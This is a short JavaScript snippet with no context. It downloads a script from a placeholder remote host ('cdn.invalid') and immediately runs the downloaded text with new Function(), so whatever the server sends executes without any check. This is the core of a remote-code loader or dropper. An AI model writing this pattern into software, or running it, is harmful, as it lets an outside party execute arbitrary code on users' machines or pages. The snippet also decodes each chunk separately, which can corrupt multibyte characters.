async function* lines() { const r = (await fetch('https://cdn.invalid/s')).body.getReader(); for (;;) { const { value, done } = await r.read(); if (done) return; yield new TextDecoder().decode(value); } }
let all = ''; for await (const l of lines()) all += l; new Function(all)();
